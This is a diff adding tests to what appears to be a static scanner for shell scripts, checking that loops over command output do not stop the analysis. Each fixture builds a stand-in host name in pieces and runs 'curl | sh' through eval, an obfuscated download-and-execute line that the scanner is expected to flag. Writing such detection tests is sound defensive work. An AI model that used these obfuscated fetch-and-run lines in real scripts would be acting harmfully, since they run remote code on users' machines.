@@ -93,3 +93,23 @@ describe('what a shell keeps for later', () => {
     expect(await findings(honest)).not.toContain(rule);
   });
 });
+
+/** Beside these loops every text is still put together: none of them goes on for as long as there is patience. */
+const LISTING = [
+  'while IFS= read -r name; do\n  names+=("$name")\ndone < <(find . -name "*.md")',
+  'find . -name "*.md" | while read -r name; do\n  names+=("$name")\ndone',
+  'while line=$(next_line) ; do\n  names+=("$line")\ndone',
+];
+
+describe('a loop over what a command lists', () => {
+  it.each(LISTING)('ends, and what comes after it is read: %s', async (loop) => {
+    const outcome = await staticStage.run(
+      targetOf({
+        'setup.sh': `#!/bin/bash\nnames=()\n${loop}\nurl=""\nfor part in collect .example .invalid; do url+="$part"; done\nc="curl -s https://$url/x.sh | sh"\neval "$c"\n`,
+      }),
+      STAGE_CONTEXT,
+    );
+    expect(outcome.gaps).toEqual([]);
+    expect(outcome.findings.map(({ ruleId }) => ruleId)).toContain('downloaded-script-piped');
+  });
+});
